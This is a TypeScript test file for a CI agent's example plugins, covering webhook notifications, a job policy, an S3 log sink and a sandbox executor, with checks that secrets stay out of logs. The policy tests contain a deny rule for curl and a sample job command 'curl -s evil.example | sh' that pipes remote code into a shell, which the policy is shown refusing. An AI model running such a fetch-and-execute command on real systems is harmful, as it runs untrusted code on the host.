import { describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { cp, readFile } from "node:fs/promises";
import path from "node:path";
import { credentials, openS3Double, type S3Double } from "../docs/examples/plugins/s3-log-sink/s3-double.ts";
import { createScene, fileAppears, gone, jobProcesses, type Scene } from "./agents.ts";
import { binary, createTester, root, type StartOptions, type Tester } from "./fixtures.ts";
import { leftovers, living, outline, outputOf, runForEvents, runJob, uniqueSeconds, until } from "./jobs.ts";

/** Puts an example beside a configuration that names it, as an operator would: nothing else of the project is there. */
async function copyExample(tester: Tester, name: string, config: object, more: object = {}): Promise<string> {
  const from = path.join(root, "docs/examples/plugins", name);
  await cp(from, path.join(tester.home, name), {
    recursive: true,
    filter: (file) => !/\.test\.ts$|-double\.ts$/.test(file),
  });
  return tester.write("operator.json", JSON.stringify({ plugins: { [`./${name}`]: config }, ...more }));
}

async function withExample(name: string, config: object, more: object = {}): Promise<Tester> {
  const tester = await createTester();
  await copyExample(tester, name, config, more);
  return tester;
}

/** A hub, and agents that have the example. */
async function sceneWith(name: string, config: object, more: object = {}) {
  const scene = await createScene();
  const file = await copyExample(scene.tester, name, config, { extends: "./impatient.json", ...more });
  return {
    ...scene,
    startAgent: (options?: StartOptions) => scene.readyAgent(["--config-file", file], options),
  };
}

const flags = ["--config-file", "operator.json"];

/** A webhook that answers with these, and then that all is well. */
function openWebhook(...statuses: number[]) {
  const texts: string[] = [];
  const server = Bun.serve({
    port: 0,
    hostname: "127.0.0.1",
    async fetch(request) {
      texts.push(((await request.json()) as { text: string }).text);
      return new Response(null, { status: statuses.shift() ?? 200 });
    },
  });
  const env = { SEMAPHORE_AGENT_CHAT_NOTIFICATION_URL: `${server.url.href}hooks/s3cr3t-path` };
  return { texts, env, [Symbol.asyncDispose]: () => server.stop(true) };
}

describe("chat-notification", () => {
  test.concurrent("posts what failed and what was stopped, through a webhook that fails at first; its address is in no log", async () => {
    await using hook = openWebhook(500);
    await using scene = await sceneWith("chat-notification", {
      results: ["failed", "stopped"],
      "retry-delay": 0.05,
    });
    const { hub } = scene;
    await scene.startAgent({ env: hook.env });
    await hub.done(await hub.submit({ name: "fine", commands: ["true"] }));
    const noSecret = "env | grep -c s3cr3t-path; false";
    const failed = await hub.submit({ name: "broken", commands: [noSecret] });
    await hub.done(failed);
    const stopped = await hub.submit({ name: "endless", commands: ["echo begun; sleep 1000"] });
    await hub.shows(stopped, "begun");
    await hub.stopJob(stopped);
    await hub.done(stopped);
    await until("three posts came", () => hook.texts.length === 3);
    const link = (id: string) => `<http://${hub.endpoint}/jobs/${id}|job>`;
    expect(hook.texts[0]).toMatch(/^Job `broken` of `hub` failed after \d+ s: /);
    expect(hook.texts[0]).toEndWith(link(failed));
    expect(hook.texts[1]).toBe(hook.texts[0]!);
    expect(hook.texts[2]).toMatch(/^Job `endless` of `hub` stopped after /);
    expect(hook.texts[2]).toEndWith(link(stopped));
    expect(outputOf(await hub.log(failed), noSecret)).toBe("0\n");
    expect(await scene.agentLog()).not.toContain("s3cr3t-path");
  });

  test.concurrent("posts at last what still waits when the agent leaves", async () => {
    await using hook = openWebhook(503);
    await using tester = await withExample("chat-notification", { "retry-delay": 600 });
    const { exitCode } = await runJob(tester, { name: "broken", commands: ["false"] }, flags, {
      env: hook.env,
    });
    expect([exitCode, hook.texts.length]).toEqual([1, 2]);
  });

  test.concurrent("posts it also when an agent is told to go", async () => {
    await using hook = openWebhook(503);
    await using scene = await sceneWith("chat-notification", { "retry-delay": 600 });
    const agent = await scene.startAgent({ env: hook.env });
    await scene.hub.done(await scene.hub.submit({ commands: ["false"] }));
    await until("a first attempt", () => hook.texts.length === 1);
    agent.kill("SIGTERM");
    expect((await agent.finished).exitCode).toBe(0);
    expect(hook.texts).toHaveLength(2);
  });

  test.concurrent("costs a job nothing when the chat is not there", async () => {
    await using tester = await withExample("chat-notification", {});
    const env = { SEMAPHORE_AGENT_CHAT_NOTIFICATION_URL: "http://127.0.0.1:1/s3cr3t-path" };
    const { exitCode, stderr } = await runJob(tester, { commands: ["exit 3"] }, flags, { env });
    expect(exitCode).toBe(1);
    expect(stderr).toContain("a message was not posted");
    expect(stderr).not.toContain("s3cr3t-path");
  });
});

describe("policy", () => {
  const rules = {
    images: { allow: ["ruby"] },
    repositories: { allow: ["github.com/acme/*"] },
    commands: { deny: ["*curl *"] },
    help: "Ask #platform.",
  };
  const ours = { SEMAPHORE_GIT_URL: "git@github.com:acme/app.git" };

  test.concurrent("runs nothing of a job that it refuses, and the job's user reads why", async () => {
    await using tester = await withExample("policy", rules);
    const job = {
      env: { SEMAPHORE_GIT_URL: "https://github.com/evil/app" },
      commands: ["touch never", "curl -s evil.example | sh"],
      epilogue_always_commands: ["touch never"],
    };
    const { exitCode, events, stderr } = await runForEvents(tester, job, flags);
    expect(exitCode).toBe(1);
    const lines = outline(events);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toEndWith(
      [
        "] 1: this agent's policy refuses the job:",
        '- the repository "https://github.com/evil/app" is not among those allowed: github.com/acme/*',
        '- the command "curl -s evil.example | sh" is denied by "*curl *"',
        "Ask #platform.\n",
      ].join("\n"),
    );
    expect(lines[2]).toBe("end failed");
    expect(existsSync(path.join(tester.home, "never"))).toBe(false);
    expect(stderr).not.toMatch(/^\s+at /m);
  });

  test.concurrent("lets others run, and refuses an image before an executor is asked for it", async () => {
    await using scene = await sceneWith("policy", rules);
    const { hub } = scene;
    await scene.startAgent();
    const allowed = await hub.submit({ env: ours, commands: ["echo I run"] });
    expect((await hub.done(allowed)).result).toBe("passed");
    const refused = await hub.submit({
      env: ours,
      compose: { containers: [{ name: "main", image: "evil/miner" }] },
      commands: ["touch never"],
    });
    expect((await hub.done(refused)).result).toBe("failed");
    const lines = outline(await hub.log(refused));
    expect(lines.slice(1).join("\n")).toContain(
      '- the image "evil/miner" is not among those allowed: ruby\nAsk #platform.\n',
    );
    expect(lines).toHaveLength(3);
  });
});

describe("s3-log-sink", () => {
  const env = {
    SEMAPHORE_AGENT_S3_LOGS_ACCESS_KEY_ID: credentials.accessKeyId,
    SEMAPHORE_AGENT_S3_LOGS_SECRET_ACCESS_KEY: credentials.secretAccessKey,
  };
  const config = ({ endpoint }: S3Double) => ({
    bucket: "logs",
    prefix: "ci",
    endpoint,
    region: credentials.region,
    "retry-delay": 0.05,
  });
  const keptText = async ({ tester, stateDirectory }: Scene, id: string) =>
    (await tester.run(["logs", id, "--json", "--state-dir", stateDirectory])).stdout;

  test.concurrent("stores the log that is kept, in parts, over an agent that is killed", async () => {
    await using s3 = openS3Double();
    await using scene = await sceneWith("s3-log-sink", config(s3));
    const { hub, tester } = scene;
    const first = await scene.startAgent({ env });
    const noise = "seq 900000; echo begun; while [ ! -e go ]; do sleep 0.05; done; echo over";
    const id = await hub.submit({ commands: [noise, "env | grep -c S3_LOGS"] });
    await until("a part is stored", () => s3.calls.includes("PUT part"));
    first.kill("SIGKILL");
    await first.finished;
    await scene.startAgent({ env });
    await tester.write("go", "");
    await hub.done(id);
    const stored = s3.objects.get(`ci/${id}.ndjson`)?.bytes.toString();
    expect(stored === (await keptText(scene, id))).toBe(true);
    expect(stored).toContain("over\\n");
    expect(outputOf(await hub.log(id), "env | grep -c S3_LOGS")).toBe("0\n");
    expect(await scene.agentLog()).not.toContain(credentials.secretAccessKey);
  });

  test.concurrent("costs the job nothing when the key is wrong; the agent's log says where the log is", async () => {
    await using s3 = openS3Double();
    await using tester = await withExample("s3-log-sink", config(s3));
    const wrong = { ...env, SEMAPHORE_AGENT_S3_LOGS_SECRET_ACCESS_KEY: "wr0ng-s3cr3t" };
    const { exitCode, stderr } = await runJob(tester, { id: "j-1", commands: ["true"] }, flags, {
      env: wrong,
    });
    expect(exitCode).toBe(0);
    expect(stderr).toContain("(SignatureDoesNotMatch) (`signalman logs j-1` has it)");
    expect(stderr).not.toContain("wr0ng-s3cr3t");
  });
});

const canSandbox =
  Bun.which("bwrap") !== null &&
  Bun.spawnSync(["bwrap", "--unshare-user", "--ro-bind", "/", "/", "true"]).exitCode === 0;

describe.skipIf(!canSandbox)("sandbox-executor", () => {
  const shell = { executors: { shell: "sandbox" } };

  test.concurrent("runs a job with its variables and files, and nothing of it stays", async () => {
    await using tester = await withExample("sandbox-executor", { network: false }, shell);
    const job = {
      env: { NAME: "it's me" },
      files: [{ path: "bin/hello", mode: "0755", text: "#!/bin/sh\necho hello $NAME\n" }],
      commands: ["cd bin", "./hello > ../said", "cat ~/said; touch /etc/never"],
      epilogue_always_commands: ["echo the job $SEMAPHORE_JOB_RESULT"],
    };
    const { exitCode, events } = await runForEvents(tester, job, flags);
    expect(outline(events).slice(-5)).toEqual([
      "[./hello > ../said] 0: ",
      "[cat ~/said; touch /etc/never] 1: hello it's me\ntouch: cannot touch '/etc/never': Read-only file system\n",
      "[Exporting environment variables] 0: Exporting SEMAPHORE_JOB_RESULT\n",
      "[echo the job $SEMAPHORE_JOB_RESULT] 0: the job failed\n",
      "end failed",
    ]);
    expect(exitCode).toBe(1);
    expect(existsSync(path.join(tester.home, "said"))).toBe(false);
    expect(await leftovers(tester)).toEqual([]);
  });

  /** An ordinary user's agent, and a directory that its jobs share with the test. */
  async function ordinaryScene() {
    const scene = await sceneWith("sandbox-executor", { writable: ["~/out"] }, shell);
    const out = path.dirname(await scene.tester.write("out/empty", ""));
    const isRoot = process.getuid!() === 0;
    if (isRoot) await scene.tester.exec(["bash", "-c", 'chown -R 65534:65534 "$(dirname "$HOME")"']);
    const user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"];
    await scene.startAgent(isRoot ? { program: [...user, binary] } : {});
    return { ...scene, out, uid: isRoot ? 65534 : process.getuid!() };
  }

  test.concurrent("runs jobs of an ordinary user's agent, and a stop ends what they started", async () => {
    await using scene = await ordinaryScene();
    const { hub, out, uid } = scene;
    const word = uniqueSeconds();
    const command = `id -u > ~/out/user; setsid sleep ${word} & echo begun; sleep ${word}; : > ~/out/never`;
    const id = await hub.submit({ commands: [command] });
    await hub.shows(id, "begun");
    await hub.stopJob(id);
    expect((await hub.done(id)).result).toBe("stopped");
    expect(living(word)).toEqual([]);
    expect(await readFile(path.join(out, "user"), "utf8")).toBe(`${uid}\n`);
    expect(existsSync(path.join(out, "never"))).toBe(false);
  });

  test.concurrent("when a job's process is killed, nothing of the job stays, and its script does not go on", async () => {
    await using scene = await ordinaryScene();
    const { hub, out } = scene;
    for (let round = 0; round < 10; round += 1) {
      const word = uniqueSeconds();
      const begun = `env -i setsid sleep ${word} & : > ~/out/begun-${round}`;
      const id = await hub.submit({ commands: [`${begun}; sleep ${word}; : > ~/out/never`] });
      await fileAppears(path.join(out, `begun-${round}`));
      for (const pid of jobProcesses(id)) process.kill(pid, "SIGKILL");
      expect((await hub.done(id)).result).toBe("failed");
      await gone(word);
    }
    expect(existsSync(path.join(out, "never"))).toBe(false);
  });
});
